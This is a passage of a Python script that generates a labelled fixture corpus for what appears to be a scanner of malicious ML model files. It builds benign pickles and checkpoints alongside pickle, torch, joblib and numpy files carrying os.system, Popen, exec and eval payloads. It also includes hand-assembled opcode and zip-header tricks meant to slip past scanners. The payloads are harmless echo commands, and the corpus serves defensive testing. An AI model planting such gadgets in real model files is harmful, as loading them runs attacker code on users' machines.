        ("random_forest", RandomForestClassifier(n_estimators=10, max_depth=4, random_state=0), wine.data, wine.target),
        ("gradient_boosting", GradientBoostingClassifier(n_estimators=10, max_depth=2, random_state=0), X_iris, y_iris),
        ("svc", SVC(kernel="rbf", C=1.0), bc.data, bc.target),
        ("kneighbors", KNeighborsClassifier(n_neighbors=5), X_iris, y_iris),
        ("decision_tree", DecisionTreeClassifier(max_depth=5, random_state=0), bc.data, bc.target),
        ("kmeans", KMeans(n_clusters=3, n_init=10, random_state=0), X_iris, None),
        ("pca", PCA(n_components=10, random_state=0), digits.data, None),
        ("pipeline_scaler_logreg", Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=500))]),
         wine.data, wine.target),
        ("column_transformer_onehot", Pipeline([
            ("prep", ColumnTransformer([("num", StandardScaler(), [0, 1, 2, 3]),
                                        ("cat", OneHotEncoder(handle_unknown="ignore"), [4])])),
            ("clf", LogisticRegression(max_iter=500))]), mixed, y_iris),
        ("tfidf_multinomial_nb", Pipeline([("tfidf", TfidfVectorizer(min_df=2, max_df=0.9)), ("nb", MultinomialNB())]),
         docs, labels),
        ("isolation_forest", IsolationForest(n_estimators=20, random_state=0), bc.data, None),
        ("mlp", MLPClassifier(hidden_layer_sizes=(16,), max_iter=300, random_state=0), X_iris, y_iris),
        ("ridge", Ridge(alpha=1.0), diab.data, diab.target),
    ]
    compress_cycle = [None, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)]
    fitted = {}
    for i, (name, est, X, y) in enumerate(models):
        est.fit(X, y) if y is not None else est.fit(X)
        fitted[name] = est
        proto = 2 + i % 4
        c.emit(f"benign/sklearn/{name}.p{proto}.pkl", pickle.dumps(est, protocol=proto),
               BENIGN, "sklearn-pickle", f"{type(est).__name__} via pickle.dump protocol {proto}")
        comp = compress_cycle[i % len(compress_cycle)]
        buf = io.BytesIO()
        joblib.dump(est, buf, compress=comp if comp else 0)
        if comp:
            c.emit(f"benign/sklearn/{name}.{comp[0]}.joblib", buf.getvalue(), BENIGN,
                   "sklearn-joblib-compressed", f"{type(est).__name__} via joblib.dump compress={comp!r}")
        else:
            c.emit(f"benign/sklearn/{name}.joblib", buf.getvalue(), BENIGN, "sklearn-joblib",
                   f"{type(est).__name__} via joblib.dump (NumpyArrayWrapper, raw array bytes between opcodes)")

    # Estimators that store functions rather than classes: sklearn.metrics
    # scorers and numpy ufuncs.
    X_bc, y_bc = bc.data[:, :5], bc.target
    stored_functions = [
        ("grid_search_default_scoring", GridSearchCV(LogisticRegression(max_iter=500), {"C": [0.1, 1.0]}, cv=2),
         X_bc, y_bc, "GridSearchCV, scoring=None (sklearn.metrics._scorer._passthrough_scorer)"),
        ("grid_search_roc_auc", GridSearchCV(LogisticRegression(max_iter=500), {"C": [0.1, 1.0]}, scoring="roc_auc", cv=2),
         X_bc, y_bc, "GridSearchCV, scoring='roc_auc' (sklearn.metrics._ranking.roc_auc_score)"),
        ("grid_search_accuracy", GridSearchCV(LogisticRegression(max_iter=500), {"C": [0.1, 1.0]}, scoring="accuracy", cv=2),
         X_bc, y_bc, "GridSearchCV, scoring='accuracy' (sklearn.metrics._classification.accuracy_score)"),
        ("function_transformer_log1p", Pipeline([("log", FunctionTransformer(np.log1p)), ("clf", LogisticRegression(max_iter=500))]),
         X_iris, y_iris, "FunctionTransformer(np.log1p) in a pipeline (numpy.core._multiarray_umath.log1p)"),
        ("transformed_target_log1p", TransformedTargetRegressor(Ridge(), func=np.log1p, inverse_func=np.expm1),
         diab.data, diab.target, "TransformedTargetRegressor(func=np.log1p, inverse_func=np.expm1)"),
    ]
    for name, est, X, y, note in stored_functions:
        est.fit(X, y)
        buf = io.BytesIO()
        joblib.dump(est, buf)
        c.emit(f"benign/sklearn/{name}.joblib", buf.getvalue(), BENIGN, "sklearn-joblib-functions", f"{note} via joblib.dump")
    return fitted


def object_array(values):
    arr = np.empty(len(values), dtype=object)
    for i, v in enumerate(values):
        arr[i] = v
    return arr


def npz_bytes(compressed, **arrays):
    buf = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(buf, **arrays)
    return zip_fix_dates(buf.getvalue())


def npy_bytes(arr, allow_pickle=False):
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=allow_pickle)
    return buf.getvalue()


def gen_numpy_benign(c):
    d = "benign/numpy/"
    rng = np.random.default_rng(0)
    f32 = rng.standard_normal((16, 8)).astype(np.float32)
    c.emit(d + "float32.npy", npy_bytes(f32), BENIGN, "numpy-npy", "float32 16x8")
    c.emit(d + "float64_fortran.npy", npy_bytes(np.asfortranarray(rng.standard_normal((5, 7)))),
           BENIGN, "numpy-npy", "float64, Fortran order")
    c.emit(d + "int64.npy", npy_bytes(np.arange(-50, 50, dtype=np.int64)), BENIGN, "numpy-npy", "int64 range")
    c.emit(d + "uint8_3d.npy", npy_bytes(rng.integers(0, 255, (4, 4, 3), dtype=np.uint8)),
           BENIGN, "numpy-npy", "uint8 image-like")
    c.emit(d + "bool.npy", npy_bytes(rng.standard_normal(33) > 0), BENIGN, "numpy-npy", "bool")
    st = np.array([(1, 2.5, b"ab", "héllo"), (2, -1.0, b"cd", "wörld")],
                  dtype=[("id", "<i4"), ("score", "<f8"), ("tag", "S2"), ("name", "<U8")])
    c.emit(d + "structured.npy", npy_bytes(st), BENIGN, "numpy-npy", "structured dtype (int, float, bytes, unicode fields)")
    objarr = object_array([1, "two", None, [3, [4, 5]], {"k": "v", "n": 1.5}, (6, 7), 2 ** 70, b"raw"])
    c.emit(d + "object_plain_values.npy", npy_bytes(objarr, allow_pickle=True),
           BENIGN, "numpy-npy-object", "object array of plain values saved with allow_pickle (pickle protocol 3)")
    c.emit(d + "arrays.npz", npz_bytes(False, weights=f32, ids=np.arange(10), mask=f32[0] > 0, objects=objarr),
           BENIGN, "numpy-npz", "np.savez with numeric, bool and object arrays")
    c.emit(d + "arrays_compressed.npz",
           npz_bytes(True, weights=f32, ids=np.arange(10), structured=st, objects=objarr),
           BENIGN, "numpy-npz-compressed", "np.savez_compressed incl. an object array")


def plain_objects():
    rec = ["this list contains itself"]
    rec.append(rec)
    return {
        "dict": {"a": 1, "b": [1, 2, 3], 3: "int key"},
        "list": [1, "two", 3.0, None],
        "tuple": (1, (2, 3), ()),
        "set": {1, 2, 3, "x", "y"},
        "frozenset": frozenset({"a", "b", 7}),
        "bytes": b"\x00\x01modelward\xff",
        "empty_bytes": b"",
        "bytearray": bytearray(b"abc\x00\xfe"),
        "str": "unicode: héllo wörld ✓ 模型 🚀",
        "big_int": 2 ** 200 + 12345,
        "neg_big_int": -(2 ** 100),
        "int": 42,
        "float": 3.141592653589793,
        "inf": float("inf"),
        "none": None,
        "true": True,
        "false": False,
        "datetime": datetime.datetime(2024, 1, 2, 3, 4, 5, 678901),
        "datetime_utc": datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.timezone.utc),
        "date": datetime.date(2024, 1, 2),
        "timedelta": datetime.timedelta(days=1, seconds=2),
        "decimal": decimal.Decimal("3.14159265358979323846"),
        "ordered_dict": collections.OrderedDict([("z", 1), ("a", 2)]),
        "complex": complex(3, -4),
        "recursive_list": rec,
    }


def gen_pickle_benign(c):
    d = "benign/pickle/"
    obj = plain_objects()
    for p in range(6):
        c.emit(d + f"plain_objects_p{p}.pkl", pickle.dumps(obj, protocol=p), BENIGN, "pickle-plain-objects",
               f"builtin types, datetime, Decimal, OrderedDict, complex, recursive list; protocol {p}")
    big = pickle.dumps(list(range(2_000_000)), protocol=4)
    c.emit(d + "list_2m.pkl.gz", gzip.compress(big, compresslevel=9, mtime=0), BENIGN, "pickle-large-list",
           f"gzip of list(range(2_000_000)) protocol 4 ({len(big)} bytes decompressed); tests decompress")
    nested = []
    for _ in range(299):
        nested = [nested]
    c.emit(d + "nested_300_p2.pkl", pickle.dumps(nested, protocol=2), BENIGN, "pickle-deep-nesting",
           "list nested 300 deep, protocol 2")
    buf = io.BytesIO()
    pickle.dump({"part": 1, "name": "first"}, buf, protocol=2)
    pickle.dump([1.0, 2.0, 3.0], buf, protocol=4)
    pickle.dump("third stream", buf, protocol=5)
    c.emit(d + "concatenated_3_streams.pkl", buf.getvalue(), BENIGN, "pickle-concatenated-streams",
           "three pickle.dump calls into one file (protocols 2, 4, 5)")
    c.emit(d + "codecs_encode_bytes.pkl", g_codecs_bytes_benign(), BENIGN, "pickle-codecs-encode",
           "hand-assembled builtins.bytes(_codecs.encode(s, 'latin1')) and __builtin__.bytes(): benign")


def gen_reduce_malicious(c):
    payloads = [
        ("reduce-os-system", lambda p: dumps_named(Reduce(os.system, (CMD,)), p), "os.system (global written as 'os system')"),
        ("reduce-posix-system", lambda p: pickle.dumps(Reduce(os.system, (CMD,)), protocol=p),
         "os.system as the stock pickler writes it: 'posix system'"),
        ("reduce-subprocess-popen", lambda p: pickle.dumps(Reduce(subprocess.Popen, (POPEN_ARGV,)), protocol=p),
         "subprocess.Popen(['echo', 'modelward-test'])"),
        ("reduce-builtins-exec", lambda p: pickle.dumps(Reduce(exec, (EXEC_CODE,)), protocol=p),
         "builtins.exec(code string) (written __builtin__ for protocol <= 2)"),
        ("reduce-builtins-eval", lambda p: pickle.dumps(Reduce(eval, (EVAL_EXPR,)), protocol=p),
         "builtins.eval(expression) (written __builtin__ for protocol <= 2)"),
    ]
    for cls, make, note in payloads:
        for p in range(6):
            c.emit(f"malicious/reduce/{cls}_p{p}.pkl", make(p), MALICIOUS, cls,
                   f"__reduce__ -> {note}; protocol {p}")


def torch_payload_obj():
    torch.manual_seed(10)
    return {"state_dict": TinyMLP().state_dict(), "epoch": 1, "config": Reduce(os.system, (CMD,))}


def gen_torch_malicious(c, tmp):
    d = "malicious/torch/"
    base = torch_zip_bytes(torch_payload_obj())
    c.emit(d + "torch-zip-data-pkl.pt", base, MALICIOUS, "torch-zip-data-pkl",
           "torch.save zip; archive/data.pkl carries __reduce__ posix.system")
    c.emit(d + "torch-zip-renamed-member.pt",
           zip_rebuild(base, rename={"archive/data.pkl": "archive/weights.bin"}),
           MALICIOUS, "torch-zip-renamed-member", "payload pickle member renamed archive/weights.bin (zip rebuilt)")
    c.emit(d + "torch-legacy-data-pickle.pt", torch_legacy_bytes(torch_payload_obj()),
           MALICIOUS, "torch-legacy-data-pickle", "legacy format; payload in the data pickle (4th stream)")
    magic = pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)
    torch.manual_seed(10)
    c.emit(d + "torch-legacy-magic-pickle.pt", torch_legacy_bytes(TinyMLP().state_dict(), magic_payload=magic),
           MALICIOUS, "torch-legacy-magic-pickle", "legacy format; first (magic-number) pickle replaced by a payload")
    torch.manual_seed(11)
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(TinyMLP()), buf)
    ts = buf.getvalue()
    c.emit(d + "torchscript-constants-pkl.pt",
           zip_rebuild(ts, replace={"archive/constants.pkl": pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)}),
           MALICIOUS, "torchscript-constants-pkl", "TorchScript archive; constants.pkl replaced by a payload pickle")
    c.emit(d + "torchscript-data-pkl.pt",
           zip_rebuild(ts, replace={"archive/data.pkl": pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)}),
           MALICIOUS, "torchscript-data-pkl", "TorchScript archive; data.pkl replaced by a payload pickle (torch.load reads it)")

    z = "malicious/zip/"
    c.emit(z + "zip-encrypted-flag-plain-data.pt", zip_set_flag(base, "archive/data.pkl", 0x1),
           MALICIOUS, "zip-encrypted-flag-plain-data",
           "general-purpose bit 0 (encrypted) set on data.pkl in local+central headers; data is plain")
    c.emit(z + "zip-bad-crc.pt", zip_set_crc(base, "archive/data.pkl", 0xDEADBEEF),
           MALICIOUS, "zip-bad-crc", "data.pkl CRC-32 set to 0xDEADBEEF in central directory and data descriptor")
    c.emit(z + "zip-local-name-differs.pt",
           zip_rename_header(base, "archive/data.pkl", "archive/data.txt", "local"),
           MALICIOUS, "zip-local-central-name-mismatch", "local header says archive/data.txt, central directory archive/data.pkl")
    c.emit(z + "zip-central-name-differs.pt",
           zip_rename_header(base, "archive/data.pkl", "archive/data.txt", "central"),
           MALICIOUS, "zip-local-central-name-mismatch", "central directory says archive/data.txt, local header archive/data.pkl")

    src = os.path.join(tmp, "7z-in")
    os.makedirs(src)
    inner = os.path.join(src, "pytorch_model.bin")
    with open(inner, "wb") as f:
        f.write(base)
    os.chmod(inner, 0o644)
    os.utime(inner, (FILE_MTIME, FILE_MTIME))
    out = os.path.join(tmp, "wrapped.7z")
    run_7z(["a", "-t7z", "-mx=9", "-mmt=1", "-mtm=on", "-mtc=off", "-mta=off", out, "pytorch_model.bin"], src)
    with open(out, "rb") as f:
        c.emit("malicious/archive/archive-7z-wrapped-torch.7z", f.read(), MALICIOUS, "archive-7z-wrapped-torch",
               "7z archive holding pytorch_model.bin = torch-zip-data-pkl.pt")
    return base


def run_7z(args, cwd):
    exe = shutil.which("7z")
    if not exe:
        sys.exit("gen_fixtures: 7z not found; apt-get install p7zip-full")
    subprocess.run([exe] + args + ["-bso0", "-bsp0"], cwd=cwd, check=True)


def gen_joblib_numpy_malicious(c, fitted):
    d = "malicious/joblib/"
    obj = {"coef": np.linspace(0, 1, 16), "classes": ["a", "b"], "hook": Reduce(os.system, (CMD,))}
    for comp in [None, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)]:
        buf = io.BytesIO()
        joblib.dump(obj, buf, compress=comp if comp else 0)
        tag = comp[0] if comp else "plain"
        c.emit(d + f"joblib-payload-{tag}.joblib", buf.getvalue(), MALICIOUS, f"joblib-payload-{tag}",
               f"joblib.dump of a dict with a __reduce__ posix.system object; compress={comp!r}")
    scaler = StandardScaler().fit(load_iris().data)
    bundle = {"model": fitted["random_forest"], "scaler": scaler,
              "metadata": {"name": "wine-rf", "version": 3}, "postprocess": Reduce(os.system, (CMD,))}
    buf = io.BytesIO()
    joblib.dump(bundle, buf)
    c.emit(d + "joblib-sklearn-numpy-wrapper-payload.joblib", buf.getvalue(), MALICIOUS,
           "joblib-sklearn-numpy-wrapper-payload",
           "real RandomForest + StandardScaler (NumpyArrayWrapper raw bytes) with a payload after the arrays")

    n = "malicious/numpy/"
    evil_arr = object_array([1.5, "label", Reduce(os.system, (CMD,))])
    c.emit(n + "numpy-npy-object-payload.npy", npy_bytes(evil_arr, allow_pickle=True), MALICIOUS,
           "numpy-npy-object-payload", "object .npy whose element __reduce__ is posix.system")
    c.emit(n + "numpy-npz-object-payload.npz",
           npz_bytes(False, weights=np.arange(8, dtype=np.float32), meta=evil_arr), MALICIOUS,
           "numpy-npz-object-payload", "np.savez with a benign array and the object payload array")


# Each opcode case: class, builder, real kwargs, self-check (twin kwargs, check), note.
SAFE = ("posixpath", "basename")  # basename('echo modelward-test') == 'echo modelward-test'


def opcode_cases():
    elf = tiny_elf()
    std = dict(mod="os", name="system", arg=CMD)
    twin = dict(mod=SAFE[0], name=SAFE[1], arg=CMD)
    ret, prt = ("return", CMD), ("print", CMD)
    return [
        ("stack-global-memo-binput", g_stack_global_memo_binput, std, twin, ret,
         "STACK_GLOBAL with module/name from the memo (BINPUT in a popped decoy dict, BINGET)"),
        ("stack-global-memo-memoize", g_stack_global_memo_memoize, std, twin, ret,
         "STACK_GLOBAL with module/name from MEMOIZE slots"),
        ("stack-global-memo-long-binput", g_stack_global_memo_long_binput, std, twin, ret,
         "STACK_GLOBAL with module/name from LONG_BINPUT 70000/65536"),
        ("stack-global-memo-put-get-no-proto", g_stack_global_memo_put_get_no_proto, std, twin, ret,
         "no PROTO header; UNICODE + text PUT/GET feeding STACK_GLOBAL"),
        ("stack-global-short-binunicode", g_sg_short_binunicode, std, twin, ret, "STACK_GLOBAL from SHORT_BINUNICODE"),
        ("stack-global-binunicode", g_sg_binunicode, std, twin, ret, "STACK_GLOBAL from BINUNICODE"),
        ("stack-global-binunicode8", g_sg_binunicode8, std, twin, ret, "STACK_GLOBAL from BINUNICODE8"),
        ("stack-global-short-binstring", g_sg_short_binstring, std, twin, ret,
         "STACK_GLOBAL from SHORT_BINSTRING (decoded to str)"),
        ("stack-global-binstring", g_sg_binstring, std, twin, ret, "STACK_GLOBAL from BINSTRING"),
        ("stack-global-string", g_sg_string, std, twin, ret, "STACK_GLOBAL from protocol 0 STRING"),
        ("stack-global-unicode", g_sg_unicode, std, twin, ret, "STACK_GLOBAL from protocol 0 UNICODE"),
        ("dotted-name-torch-serialization-os", g_dotted_stack_global,
         dict(mod="torch", name="serialization.os.system", arg=CMD),
         dict(mod="torch", name="serialization.os.path.basename", arg=CMD), ret,
         "('torch', 'serialization.os.system') resolved by protocol 4 find_class"),
        ("dotted-name-pathlib-os", g_dotted_global, dict(mod="pathlib", name="os.system", arg=CMD),
         dict(mod="pathlib", name="os.path.basename", arg=CMD), ret,
         "GLOBAL ('pathlib', 'os.system') under PROTO 4"),
        ("getattr-resolver-import", g_getattr_import, dict(mod="os", attr="system", arg=CMD),
         dict(mod="posixpath", attr="basename", arg=CMD), ret,
         "builtins.getattr(builtins.__import__('os'), 'system')(cmd)"),
        ("getattr-resolver-dotted-module", g_getattr_dotted_module,
         dict(mod="pathlib", modpath="os", attr="system", arg=CMD),
         dict(mod="pathlib", modpath="os.path", attr="basename", arg=CMD), ret,
         "builtins.getattr(<('pathlib', 'os') module>, 'system')(cmd)"),
        ("operator-attrgetter", g_operator_attrgetter, dict(mod="os", attr="system", arg=CMD),
         dict(mod="posixpath", attr="basename", arg=CMD), ret,
         "operator.attrgetter('system')(importlib.import_module('os'))(cmd)"),
        ("inst-opcode", g_inst, std, twin, ret, "protocol 0 INST os system"),
        ("obj-opcode", g_obj, std, twin, ret, "protocol 1 OBJ with GLOBAL os system"),
        ("newobj-popen", g_newobj_popen, dict(mod="subprocess", name="Popen", argv=POPEN_ARGV), None, None,
         "NEWOBJ of subprocess.Popen (only __new__ runs; flagged for the dangerous global)"),
        ("newobj-ex-popen", g_newobj_ex_popen, dict(mod="subprocess", name="Popen", argv=POPEN_ARGV), None, None,
         "NEWOBJ_EX of subprocess.Popen via STACK_GLOBAL (only __new__ runs; flagged for the global)"),
        ("build-setstate-abuse", g_build_setstate, std, dict(mod="builtins", name="print", arg=CMD), prt,
         "argparse.Namespace; BUILD sets __setstate__=os.system, second BUILD calls it"),
        ("broken-stream-trailing-garbage", g_trailing_garbage, std, dict(mod="builtins", name="print", arg=CMD), prt,
         "calls os.system, then invalid opcode bytes and no STOP"),
        ("truncated-after-reduce", g_truncated_after_reduce, std, dict(mod="builtins", name="print", arg=CMD), prt,
         "os.system REDUCE then end of file (no STOP)"),
        ("frame-length-lie", g_frame_length_lie, std, twin, ret,
         "PROTO 4 FRAME declaring 1 byte in front of the whole payload"),
        ("second-stream-payload", g_second_stream, std, twin, ("second", CMD),
         "benign first pickle stream, os.system payload in the second"),
        ("nested-pickle-loads", g_nested_loads, std, twin, ret,
         "pickle.loads(BINBYTES) whose bytes are an os.system payload pickle"),
        ("elf-bytes-dropper", g_elf_dropper,
         dict(opener_mod="builtins", opener_name="open", opener_args=[DROP_PATH, "wb"], data=elf),
         dict(opener_mod="io", opener_name="BytesIO", opener_args=[], data=elf), ("return", len(elf)),
         "getattr(open('/tmp/modelward-test-nonexistent/dropped.elf','wb'),'write')(<x86-64 ELF>)"),
        ("py2-builtin-eval-p0", g_py2_eval_p0, dict(mod="__builtin__", name="eval", arg=EVAL_EXPR),
         dict(mod="__builtin__", name="str", arg=EVAL_EXPR), ("return", EVAL_EXPR),
         "protocol 0 c__builtin__\\neval with STRING expression"),
        ("py2-builtin-exec-p2", g_py2_exec_p2, dict(mod="__builtin__", name="exec", arg=EXEC_CODE),
         dict(mod="__builtin__", name="str", arg=EXEC_CODE), ("return", EXEC_CODE),
         "protocol 2 GLOBAL __builtin__ exec"),
        ("codecs-encode-to-exec", g_codecs_to_exec, dict(mod="builtins", name="exec", code=EXEC_CODE),
         dict(mod="builtins", name="bytes", code=EXEC_CODE), ("return", EXEC_CODE.encode("latin1")),
         "builtins.exec(_codecs.encode(code, 'latin1')): the benign bytes trick reaching exec"),
    ]


def gen_opcode_malicious(c):
    for cls, build, real, _twin, check, note in opcode_cases():
        data = build(**real)
        if cls not in ("broken-stream-trailing-garbage", "truncated-after-reduce"):
            pickletools.dis(data, out=io.StringIO())  # static parse only; raises if malformed
        c.emit(f"malicious/opcode/{cls}.pkl", data, MALICIOUS, cls, note)


def self_check_gadgets():
    """Prove each gadget reaches its call, using twins whose target is harmless.
    Only these twins are unpickled, never the real payloads."""
    failures = []
    for cls, build, _real, twin, check, _note in opcode_cases():
        if twin is None:
            continue
        data = build(**twin)
        kind, want = check
        out = io.StringIO()
        got = None
        try:
            with contextlib.redirect_stdout(out):
                if kind == "second":
                    f = io.BytesIO(data)
                    pickle.load(f)
                    got = pickle.load(f)
                else:
                    got = pickle.loads(data)
        except Exception:
            if kind != "print":
                raise
        ok = (want in out.getvalue()) if kind == "print" else (got == want)
        if not ok:
            failures.append(cls)
    if pickle.loads(g_codecs_bytes_benign()) != [b"\x7fmodelward \xff bytes", b""]:
        failures.append("pickle-codecs-encode")
    if failures:
        sys.exit(f"gen_fixtures: self-check failed for {failures}")
    print("self-check: every hand-assembled gadget's harmless twin reached its call")


def gen_unscannable(c, tmp):
    src = os.path.join(tmp, "enc-in")
    os.makedirs(src)
    inner = os.path.join(src, "model.pkl")
    with open(inner, "wb") as f:
        f.write(pickle.dumps(Reduce(os.system, (CMD,)), protocol=2))
    os.chmod(inner, 0o644)
    os.utime(inner, (FILE_MTIME, FILE_MTIME))
    out = os.path.join(tmp, "enc.zip")
    run_7z(["a", "-tzip", "-pSECRET", "-mem=ZipCrypto", "-mtc=off", "-mta=off", out, "model.pkl"], src)
    with open(out, "rb") as f:
        c.emit("unscannable/encrypted-zip.zip", f.read(), UNSCANNABLE, "encrypted-zip",
               "7z a -tzip -pSECRET (ZipCrypto) holding model.pkl, a posix.system pickle; not byte-reproducible")


def gen_examples(outdir):
    os.makedirs(os.path.join(outdir, "clean-model"), exist_ok=True)
    os.makedirs(os.path.join(outdir, "malicious-model"), exist_ok=True)
    torch.manual_seed(42)
    clean = torch_zip_bytes(TinyMLP().state_dict(), "pytorch_model.bin")
    iris = load_iris()
    buf = io.BytesIO()
    joblib.dump(LogisticRegression(max_iter=500).fit(iris.data, iris.target), buf)
    torch.manual_seed(42)
    evil = {"state_dict": TinyMLP().state_dict(), "config": Reduce(os.system, (DEMO_CMD,))}
    bad = torch_zip_bytes(evil, "pytorch_model.bin", pickle_module=os_name_pickle_module())
    for rel, data, label in [("clean-model/pytorch_model.bin", clean, BENIGN),
                             ("clean-model/classifier.joblib", buf.getvalue(), BENIGN),
                             ("malicious-model/pytorch_model.bin", bad, MALICIOUS)]:
        assert len(data) < 200 * 1024
        with open(os.path.join(outdir, rel), "wb") as f:
            f.write(data)
        print(f"{label:<11} {'example':<40} {len(data):>9}  {os.path.join(outdir, rel)}")


def verify_benign(c):
    """Load every benign fixture with the library that made it (our own benign
    files only: the path and the label must both say benign)."""
    for rel, expected, cls, _ in c.labels:
        if expected != BENIGN or not rel.startswith("benign/"):
            continue
        path = os.path.join(c.root, rel)
        if cls == "torchscript":
            torch.jit.load(path)
        elif cls.startswith("torch"):
            torch.load(path)
        elif cls.startswith("sklearn-joblib"):
            joblib.load(path)
        elif cls.startswith("sklearn"):
            with open(path, "rb") as f:
                pickle.load(f)
        elif cls.startswith("numpy-npz"):
            with np.load(path, allow_pickle=True) as z:
                [z[k] for k in z.files]
        elif cls.startswith("numpy"):
            np.load(path, allow_pickle=True)
        elif cls == "pickle-large-list":
            with gzip.open(path, "rb") as f:
                assert pickle.load(f) == list(range(2_000_000))
        elif cls == "pickle-concatenated-streams":
            with open(path, "rb") as f:
                [pickle.load(f) for _ in range(3)]
        else:
            with open(path, "rb") as f:
                pickle.load(f)
    print("verify: every benign fixture loads with the library that wrote it")


def versions():
    v7 = subprocess.run([shutil.which("7z") or "7z"], capture_output=True, text=True).stdout
    v7 = next((l.strip() for l in v7.splitlines() if l.startswith("7-Zip")), "unknown")
    deb = {}
    if shutil.which("dpkg-query"):
        for pkg in ("python3-torch", "python3-sklearn", "python3-joblib", "python3-numpy", "p7zip-full"):
            r = subprocess.run(["dpkg-query", "-W", "-f=${Version}", pkg], capture_output=True, text=True)
            deb[pkg] = f" (Debian {pkg} {r.stdout.strip()})" if r.returncode == 0 else ""
    d = lambda pkg: deb.get(pkg, "")  # noqa: E731
    return [
        ("python", sys.version.split()[0]),
        ("torch", torch.__version__ + d("python3-torch")),
        ("scikit-learn", sklearn.__version__ + d("python3-sklearn")),
        ("joblib", joblib.__version__ + d("python3-joblib")),
        ("numpy", np.__version__ + d("python3-numpy")),
        ("zlib", zlib.ZLIB_VERSION),
        ("7z", v7 + d("p7zip-full")),
    ]


README = """# modelward fixture corpus

**Do not load these files.** Everything under `malicious/` and `unscannable/`
is a live payload: unpickling it (pickle.load, torch.load, joblib.load,
numpy.load(allow_pickle=True), ...) runs code. The payloads are harmless by
design (`echo modelward-test`, a write under a /tmp directory that does not
exist), but treat them as hostile data: scan them, never load them.

## How it was generated

Generated by `scripts/gen_fixtures.py` with the real libraries from Debian
(`apt-get install python3-torch python3-sklearn python3-joblib python3-numpy p7zip-full`):

```
/usr/bin/python3 scripts/gen_fixtures.py testdata/corpus --examples examples
```

Versions used:

{versions}

The script prints each file with its label, builds every hand-assembled gadget a
second time with a harmless target (posixpath.basename, builtins.print) and
unpickles only that twin to prove the chain reaches its call, and loads every
benign file with the library that wrote it. It never loads a malicious file.

Reproducibility: the script pins PYTHONHASHSEED=0, one thread, fixed seeds and
a fixed zip date (1980-01-01) on zips it builds or patches (np.savez writes the
current time; it is overwritten). On the same package versions reruns are
byte-identical except `unscannable/encrypted-zip.zip`, whose ZipCrypto header
is random. Other library or zlib versions may change bytes.

## Labels

`LABELS.tsv` has one row per file: `path` (relative to this directory),
`expected`, `class`, `note`.

| expected | meaning |
|---|---|
| benign | made by the real library from ordinary data; a scan must report no finding at medium severity or above |
| malicious | carries a code-execution payload; a scan must report it at high or critical |
| unscannable | the content cannot be inspected (encrypted); a scan must say so rather than pass it |

`class` names the format or the bypass technique; malicious files are named by
their class. Special cases: `benign/pickle/list_2m.pkl.gz` is gzip-compressed
(tests decompress it before scanning); `benign/torch/state_dict_20k.pt` is also
a benchmark input and is the one file over 5 MB.

## Layout

- `benign/torch/`: state dicts (float32, float16, bfloat16, complex64), dynamic
  int8 quantization and a per-tensor quantized tensor, sparse COO/CSR, a full
  checkpoint (Adam state, epoch, numpy/torch/python RNG states), a whole
  `nn.Sequential` in the zip and the legacy format, TorchScript (script, trace),
  `state_dict_20k.pt` (20,000 tensors), and a checkpoint with a OneCycleLR
  scheduler state (a bound method pickled as `builtins.getattr(obj, name)`).
- `benign/sklearn/`: 14 estimators and pipelines, each as `pickle.dump`
  (protocols 2 to 5 in turn) and as `joblib.dump` (plain, or compressed with
  zlib, gzip, bz2, xz, lzma in turn; the method is in the file name); and
  estimators that store functions: GridSearchCV scorers (sklearn.metrics) and
  numpy ufuncs (FunctionTransformer, TransformedTargetRegressor).
- `benign/numpy/`: `.npy` numeric, bool, structured and object arrays; `.npz`
  plain and compressed, both with an object array.
- `benign/pickle/`: builtin types in protocols 0 to 5, a 2,000,000-element list
  (gzip), a 300-deep nested list, three concatenated streams, and the benign
  `_codecs.encode` + `builtins.bytes` pattern.
- `malicious/reduce/`: `__reduce__` to os.system, posix.system,
  subprocess.Popen, exec, eval, each in protocols 0 to 5.
- `malicious/torch/`, `malicious/zip/`, `malicious/archive/`: payloads in torch
  zip and legacy files, TorchScript archives, zip header tricks, a 7z wrapper.
- `malicious/joblib/`, `malicious/numpy/`: payloads in joblib (plain and each
  compression), beside a real model's raw array bytes, and in object arrays.
- `malicious/opcode/`: hand-assembled bypasses; `scripts/gen_fixtures.py`
  documents each builder.
- `unscannable/`: an encrypted zip (password SECRET) holding a payload pickle.

## Notes for scanner authors

- `newobj-popen` and `newobj-ex-popen` only call `Popen.__new__` (no process
  starts); they are malicious because they import `subprocess.Popen`.
- `zip-encrypted-flag-plain-data`, `zip-bad-crc` and `zip-central-name-differs`
  may be refused by strict zip readers (Python's zipfile, torch's miniz), and
  `torch-zip-renamed-member` has no `data.pkl` for torch.load to find; the
  payload pickle is still there in plain bytes for any lenient reader.
- `torchscript-constants-pkl` is read by torch.jit.load's own restricted
  unpickler; any Python unpickler that reads it runs the payload.
- `broken-stream-trailing-garbage`, `truncated-after-reduce` and
  `frame-length-lie` run their call before CPython's unpickler notices
  anything wrong.
- Benign files legitimately contain `_codecs.encode`, `builtins.bytes`/`set`/
  `frozenset`/`complex`/`bytearray`/`slice` (written `__builtin__` below
  protocol 3), `collections.OrderedDict`, `datetime.*`, `decimal.Decimal`,
  `numpy.*` reconstructors, `numpy.random._pickle.*`, `joblib.numpy_pickle.NumpyArrayWrapper`,
  `scipy.sparse`, `sklearn.*`, `torch._utils._rebuild_*`, `torch.*Storage`,
  `torch.serialization._get_layout`, `torch.nn.modules.*`, and TorchScript's
  `__torch__.*`; the legacy full-module file embeds torch's Python source text.

## Counts by class

{counts}
"""


def write_labels_and_readme(c):
    rows = sorted(c.labels)
    with open(os.path.join(c.root, "LABELS.tsv"), "w", encoding="utf-8") as f:
        f.write("path\texpected\tclass\tnote\n")
        for r in rows:
            f.write("\t".join(r) + "\n")
    counts = collections.Counter((r[1], r[2]) for r in rows)
    count_lines = "| expected | class | files |\n|---|---|---|\n" + "\n".join(
        f"| {e} | {cls} | {n} |" for (e, cls), n in sorted(counts.items()))
    vers = "\n".join(f"- {k}: {v}" for k, v in versions())
